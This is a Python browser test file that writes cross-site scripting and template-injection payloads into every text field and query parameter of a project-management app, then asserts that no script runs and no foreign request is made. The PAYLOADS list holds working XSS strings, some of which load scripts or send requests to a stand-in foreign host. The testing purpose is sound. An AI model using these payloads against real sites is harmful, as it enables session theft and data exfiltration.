"""Scenario 14: scripts in every text of every entity, and in query strings of pages: none runs or sends a request."""

from __future__ import annotations

import uuid
from urllib.parse import quote

from playwright.sync_api import BrowserContext, ConsoleMessage, Page

from tests.torture.board import Board, besieged
from tests.torture.browsers import ForeignSite, chromium, person_of
from tests.torture.reporter import Result

# At most 50 characters, which every field accepts. E is a foreign site. In Markdown, some are links and images.
PAYLOADS = (
    "<img src=x onerror=window.hacked=1>",
    "\"'><script>window.hacked=1</script>",
    "</script><script>window.hacked=1</script>",
    "</title></textarea><svg onload=window.hacked=1>",
    '" autofocus onfocus=window.hacked=1 x="',
    "' onmouseover='window.hacked=1",
    "<script src=//E/x.js></script>",
    "<img src=//E/pixel.png>",
    "<link rel=stylesheet href=//E/x.css>",
    "<iframe srcdoc='<script src=//E/x></script>'>",
    "<meta http-equiv=refresh content='0;//E/'>",
    "<base href=//E/>",
    "<form action=//E/><input autofocus name=q></form>",
    "<i hx-get=//E/ hx-trigger=load></i>",
    "<i hx-on:load='window.hacked=1' hx-get=/>",
    "<style>*{background:url(//E/)}</style>",
    "[a](javascript:window.hacked=1)",
    "[a](&#106;avascript:window.hacked=1)",
    "[a](data:text/html,<script>alert(1)</script>)",
    "<javascript:window.hacked=1>",
    "![a](//E/pixel.png)",
    '[a](/ "onclick=window.hacked=1")',
    "```x' onload='window.hacked=1\na\n```",
    "{{constructor.constructor('hacked=1')()}}",
    "{% debug %}{{ request.META }}",
    "PONE-1<img src=x onerror=window.hacked=1>PONE-2",
    "<math><mtext></form><form><mglyph><style></math>",
    "\u202e<img src=x onerror=window.hacked=1>\u0000"[:-1],
)
LOOK = """() => ({
    hacked: window.hacked,
    links: [...document.querySelectorAll('a[href]')].map(a => a.protocol),
    scripts: [...document.scripts].map(s => s.src),
    forms: [...document.forms].map(f => new URL(f.getAttribute('action') || '', location.href).origin),
    handlers: [...document.querySelectorAll('*')].flatMap(e => e.getAttributeNames()).filter(n => /^on|^hx-on/.test(n)),
})"""


def stored_scripts(count: int) -> Result:
    """Store each of `count` payloads in all texts, and view every page in Chromium."""
    result = Result("scripts in every text, viewed in Chromium", "a page")
    with besieged(result, changes=True) as board, ForeignSite() as site, chromium() as browser:
        payloads = [text.replace("E/", f"127.0.0.1:{site.port}/")[:50] for text in PAYLOADS[:count]]
        paths = [path for text in payloads for path in _store(board, text)]
        paths += [path for number, text in enumerate(payloads) for path in _reflecting(text)[number % 3 :: 3]]
        # One payload is the short form, which views only some of the pages.
        others = [path for path in board.pages() if not path.startswith(("/api/", "/live/"))]
        paths += others if count > 1 else others[::4]
        context, page = person_of(browser, board)
        said = _listen(context, board.server.url)
        for path in paths:
            with result.attempt(path), result.clock():
                page.goto(board.server.url + path)
                _check(page, board.server.url)
                assert not said, said[:3]
            said.clear()
        if site.seen:
            result.failures.append(f"the foreign site got {len(site.seen)} requests")
    return result


def _store(board: Board, payload: str) -> list[str]:
    """Write the payload into every text field; return the pages that show it."""
    line = " ".join(payload.split())
    name = line.replace("\u202e", "")  # no name may hide characters
    actor = {"X-PM-Actor": quote(name)}

    def make(collection: str, **body: object) -> str:
        answer = board.server.api("POST", f"{collection}/", json=body, headers=actor)
        assert answer.status_code == 201, f"{collection} {payload!r}: {answer.text[:300]}"
        return str(answer.json()["id"])

    dates = {"start_date": "2026-01-01", "end_date": "2026-01-15"}
    times = {"started_at": "2026-01-01T10:00:00Z", "ended_at": "2026-01-01T11:00:00Z"}
    project = make("projects", key=f"P{uuid.uuid4().hex[:8]}", title=line, description=payload)
    sprint = make("sprints", project="PONE", name=line, goal=payload, **dates)
    texts = {"title": line, "description": f"{payload}\n\n{payload}", "assignee": name, "labels": [line]}
    item = make("work-items", project="PONE", item_type="story", status="todo", sprint=sprint, **texts)
    comment = make("comments", work_item=item, content=payload)
    make("comments", work_item=item, content=payload, kind="decision")
    make("questions", work_item=item, text=line[:300], choices=[line[:300]], details=payload)
    make("criteria", work_item=item, text=line[:500])
    picture = board.attach(item, line)
    make("comments", work_item=item, content=f"![{payload}]({picture}) [{payload}]({picture})")
    entry = make("time-entries", work_item=item, description=payload, **times)
    lane = {"name": line}
    assert board.server.api("PATCH", f"swim-lanes/{board.ids['swim-lanes']}/", json=lane).status_code == 200
    key = board.get(f"work-items/{item}/")["display_key"]
    objects = {"project": project, "sprint": sprint, "workitem": item, "comment": comment, "timeentry": entry}
    objects["swimlane"] = board.ids["swim-lanes"]
    return [
        f"/items/{key}/",
        "/inbox/",
        "/agents/",
        *(f"/admin/projects/{model}/{pk}/change/" for model, pk in objects.items()),
    ]


def _reflecting(payload: str) -> list[str]:
    """Return pages that show their query parameters."""
    text = quote(payload, safe="")
    found = [f"/board/PONE/?{name}={text}" for name in ("q", "group", "label", "assignee", "sprint", "type", "blocked")]
    found += [
        f"/items/new/?{name}={text}" for name in ("title", "description", "label", "parent", "project", "template")
    ]
    found += [f"/activity/?{name}={text}" for name in ("actor", "session", "kind", "since")]
    found += [f"/search/?q={text}", f"/search/?q=hacked&project={text}", f"/nothing/{text}", f"/login/{text}/"]
    return [*found, f"/admin/login/?next={text}", f"/admin/projects/workitem/?q={text}", f"/admin/r/{text}/"]


def _listen(context: BrowserContext, url: str) -> list[str]:
    """Return a list that collects foreign requests, dialogs, and violations of the Content-Security-Policy."""
    said: list[str] = []
    context.on("request", lambda one: None if one.url.startswith((url, "data:")) else said.append(one.url))
    context.on("dialog", lambda dialog: (said.append(f"dialog {dialog.message}"), dialog.dismiss())[0])
    context.on("weberror", lambda error: said.append(str(error.error)))
    refused = "Content Security Policy"
    picture = "/attachments/"  # Chromium shows one in a page of its own, with a style that our policy refuses

    def note(line: ConsoleMessage) -> None:
        if refused in line.text and picture not in str(line.location.get("url", "")):
            said.append(line.text)

    context.on("console", note)
    return said


def _check(page: Page, url: str) -> None:
    found = page.evaluate(LOOK)
    assert found["hacked"] is None, "a script ran"
    assert set(found["links"]) <= {"http:", "https:", "mailto:"}, found["links"]
    assert all(source.startswith(url) for source in found["scripts"]), found["scripts"]
    assert set(found["forms"]) <= {url}, found["forms"]
    assert not found["handlers"], found["handlers"]
